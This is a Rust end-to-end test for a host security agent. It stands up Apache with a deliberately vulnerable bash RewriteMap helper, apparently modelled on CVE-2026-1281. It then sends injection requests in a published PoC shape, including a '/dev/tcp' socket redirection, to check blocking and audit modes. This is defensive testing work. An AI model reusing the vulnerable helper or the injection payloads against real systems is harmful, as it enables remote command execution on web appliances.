//! Prevention end to end: a real Apache httpd on loopback with a RewriteMap helper that
//! has the flaw of CVE-2026-1281 (bash evaluates an array index taken from the request),
//! attacked with the published request shape. With `--enforce on` the injected program
//! is stopped before it runs; with `--enforce audit` it runs and the alert says it would
//! have been stopped. The appliance answers normal requests the same throughout, and the
//! helper's own baseline (`date`) keeps working. Enforcement switched off by the
//! configuration and SIGHUP, or by stopping the agent, stops nothing.
//!
//! One test in this file, on purpose: an enforcing agent acts on every labelled lineage
//! of the host, so nothing else may run beside it.

use std::{
    io::{Read, Write},
    net::{TcpListener, TcpStream},
    os::unix::{fs::PermissionsExt, process::CommandExt},
    path::Path,
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use sensor_e2e::{Agent, Scratch, alert_of, marker, require_root};
use serde_json::Value;

/// The helper, re-created after watchTowr's analysis (THREATS.md 2.1): it parses
/// `kid=,st=,et=,h=` pairs; `st=theValue` makes `gStartTime` name the variable holding
/// `h`, and the arithmetic comparison evaluates ``gPath[`cmd`]``. Its baseline: `date`.
const HELPER: &str = r#"#!/bin/bash
while read -r line; do
  theCurrentTimeSeconds=$(date +%s)
  gStartTime=0
  theValue=""
  IFS=',' read -ra pairs <<< "$line"
  for p in "${pairs[@]}"; do
    case "$p" in
      st=*) gStartTime="${p#st=}" ;;
      h=*) theValue="${p#h=}" ;;
    esac
  done
  if [[ -z "$theCurrentTimeSeconds" ]]; then
    echo "/broken.txt"
  elif [[ ${theCurrentTimeSeconds} -gt ${gStartTime} ]] 2>/dev/null; then
    echo "/ok.txt"
  else
    echo "/expired.txt"
  fi
done
"#;

struct Httpd {
    child: Child,
    port: u16,
}

impl Httpd {
    fn start(dir: &Scratch) -> Httpd {
        let port = TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let root = dir.str();
        std::fs::create_dir_all(dir.path("mi/bin")).unwrap();
        std::fs::create_dir_all(dir.path("www")).unwrap();
        std::fs::write(dir.path("www/ok.txt"), "ok\n").unwrap();
        let helper = dir.path("mi/bin/map-appstore-url");
        std::fs::write(&helper, HELPER).unwrap();
        std::fs::set_permissions(&helper, std::fs::Permissions::from_mode(0o755)).unwrap();
        let modules = "/usr/lib/apache2/modules";
        let conf = format!(
            "ServerName localhost\n\
             Listen 127.0.0.1:{port}\n\
             PidFile {root}/httpd.pid\n\
             DefaultRuntimeDir {root}\n\
             ErrorLog {root}/error.log\n\
             LogLevel warn rewrite:warn\n\
             User www-data\n\
             Group www-data\n\
             LoadModule mpm_prefork_module {modules}/mod_mpm_prefork.so\n\
             LoadModule authz_core_module {modules}/mod_authz_core.so\n\
             LoadModule rewrite_module {modules}/mod_rewrite.so\n\
             StartServers 2\n\
             DocumentRoot {root}/www\n\
             <Directory {root}/www>\n  Require all granted\n</Directory>\n\
             RewriteEngine on\n\
             RewriteMap mapAppStoreURL prg:{helper}\n\
             RewriteRule ^/mifs/c/appstore/fob/3/[0-9]+/sha256:(.*)/[^/]*\\.ipa$ ${{mapAppStoreURL:$1}} [PT]\n",
            helper = helper.display()
        );
        std::fs::write(dir.path("httpd.conf"), conf).unwrap();
        // Its own process group: on SIGTERM the apache2 master signals its whole group.
        let child = Command::new("/usr/sbin/apache2")
            .args(["-f", &format!("{root}/httpd.conf"), "-DFOREGROUND"])
            .process_group(0)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("start apache2");
        let httpd = Httpd { child, port };
        let deadline = Instant::now() + Duration::from_secs(20);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                Instant::now() < deadline,
                "apache2 did not listen: {}",
                std::fs::read_to_string(dir.path("error.log")).unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
        httpd
    }

    /// GET `path` (already URL-encoded): status line and body.
    fn get(&self, path: &str) -> (String, String) {
        let mut s = TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        write!(s, "GET {path} HTTP/1.0\r\nHost: localhost\r\n\r\n").unwrap();
        let mut response = String::new();
        s.read_to_string(&mut response).unwrap();
        let status = response.lines().next().unwrap_or("").to_owned();
        let body = response
            .split_once("\r\n\r\n")
            .map_or("", |(_, b)| b)
            .to_owned();
        (status, body)
    }
}

impl Drop for Httpd {
    fn drop(&mut self) {
        // SAFETY: signalling the apache2 master we started, by its pid; it stops its
        // workers and helpers.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let _ = self.child.wait();
    }
}

/// The request that reaches the helper with a command in `h` (the watchTowr PoC shape).
fn injection(cmd: &str) -> String {
    let encoded = cmd.replace(' ', "%20");
    format!(
        "/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue,et=1337133713,h=gPath%5B%60{encoded}%60%5D/13371337-1337-1337-1337-133713371337.ipa"
    )
}

const NORMAL: &str = "/mifs/c/appstore/fob/3/5/sha256:kid=1,st=0,et=1,h=abc/app.ipa";

fn enforcement_alert<'a>(line: &'a Value, file: &Path) -> Option<&'a Value> {
    alert_of(line, "enforce:rewritemap-helper").filter(|a| {
        a["process"]["argv"]
            .to_string()
            .contains(file.to_str().unwrap())
            || a["evidence"].to_string().contains(file.to_str().unwrap())
    })
}

/// The injected command ran: its file appears (bounded wait).
fn wait_for_file(file: &Path) {
    let deadline = Instant::now() + Duration::from_secs(5);
    while !file.exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(file.exists(), "the command did not run: {}", file.display());
}

#[test]
fn an_injected_program_is_stopped_before_it_runs_and_audit_only_reports_it() {
    require_root();
    let dir = Scratch::new("prevention");
    std::fs::set_permissions(dir.path(""), std::fs::Permissions::from_mode(0o755)).unwrap();

    // --- on -----------------------------------------------------------------------------
    // From the configuration file, so that a reload can switch it off (the kill switch).
    let config = dir.path("agent.toml");
    let write_config = |mode: &str| {
        std::fs::write(
            &config,
            format!("[agent]\ncollapse_seconds = 0\nenforce = \"{mode}\"\n"),
        )
        .unwrap()
    };
    write_config("on");
    let mut agent = Agent::start(&["--config", config.to_str().unwrap()]);
    let httpd = Httpd::start(&dir);
    // The helper starts with httpd: the agent labels it as a web-tier source.
    agent.wait_for_log(
        "enforcement: new web-tier source labelled",
        Duration::from_secs(20),
    );
    let mechanism = if agent.log().contains("mechanism=\"lsm\"") {
        "ACTION_DENIED"
    } else {
        "ACTION_KILLED"
    };
    let before = httpd.get(NORMAL);
    assert!(before.0.contains(" 200 "), "normal request: {before:?}");
    assert_eq!(before.1, "ok\n", "the helper ran date and answered");

    let file = dir.path(&marker("poc-on"));
    let _ = httpd.get(&injection(&format!("/usr/bin/touch {}", file.display())));
    let line = agent.wait_for("the enforcement alert (on)", |l| {
        enforcement_alert(l, &file).is_some()
    });
    let alert = &line["alert"];
    assert_eq!(alert["action"], mechanism, "{alert}");
    assert_eq!(alert["enforcement"], "enforce:rewritemap-helper");
    assert_eq!(alert["lineage"]["identity"], "rewritemap-helper");
    assert_eq!(alert["severity"], "SEVERITY_CRITICAL");
    std::thread::sleep(Duration::from_millis(300));
    assert!(!file.exists(), "the injected touch ran: {}", file.display());

    let after = httpd.get(NORMAL);
    assert_eq!(
        after, before,
        "the appliance answers the same after the attack"
    );
    // The helper's baseline was never stopped.
    let baseline_stopped = agent.collect(Duration::from_millis(500), |l| {
        l.get("alert").is_some_and(|a| {
            a["ruleId"] == "enforce:rewritemap-helper"
                && a["process"]["exe"]
                    .as_str()
                    .is_some_and(|e| e.ends_with("/date"))
        })
    });
    assert!(baseline_stopped.is_empty(), "{baseline_stopped:?}");

    // Even the allowed `date` is stopped once it is wired to the network (`socket_stdio`):
    // the injection gives it a loopback socket on its stdin, as a reverse shell's
    // redirection does; no file of it is known to the kernel as a shell.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let _ = httpd.get(&injection(&format!(
        "/usr/bin/date %3C%3E/dev/tcp/127.0.0.1/{port}"
    )));
    let line = agent.wait_for("the enforcement alert (date on a socket)", |l| {
        alert_of(l, "enforce:rewritemap-helper").is_some_and(|a| {
            a["process"]["exe"]
                .as_str()
                .is_some_and(|e| e.ends_with("/date"))
        })
    });
    let alert = &line["alert"];
    assert_eq!(alert["action"], mechanism, "{alert}");
    assert!(alert.to_string().contains("socket_stdio"), "{alert}");
    assert!(
        listener.accept().is_ok(),
        "the redirection reached the socket"
    );
    assert_eq!(httpd.get(NORMAL), before, "the helper still answers");

    // The kill switch: `enforce = "off"` and SIGHUP; the same injection runs.
    write_config("off");
    agent.signal(libc::SIGHUP);
    agent.wait_for_log("enforcement off", Duration::from_secs(20));
    let file = dir.path(&marker("poc-switched-off"));
    let _ = httpd.get(&injection(&format!("/usr/bin/touch {}", file.display())));
    wait_for_file(&file);
    let enforced = agent.collect(Duration::from_millis(500), |l| {
        enforcement_alert(l, &file).is_some()
    });
    assert!(enforced.is_empty(), "switched off, yet: {enforced:?}");
    agent.stop();

    // No enforcement outlives the agent.
    let file = dir.path(&marker("poc-no-agent"));
    let _ = httpd.get(&injection(&format!("/usr/bin/touch {}", file.display())));
    wait_for_file(&file);

    // --- audit (the helper is found running in /proc this time) ------------------------
    let mut agent = Agent::start(&["--enforce", "audit"]);
    let file = dir.path(&marker("poc-audit"));
    let _ = httpd.get(&injection(&format!("/usr/bin/touch {}", file.display())));
    let line = agent.wait_for("the enforcement alert (audit)", |l| {
        enforcement_alert(l, &file).is_some()
    });
    assert_eq!(line["alert"]["action"], "ACTION_WOULD_KILL", "{line}");
    wait_for_file(&file);
    assert_eq!(httpd.get(NORMAL), before);
    agent.stop();
    drop(httpd);
}
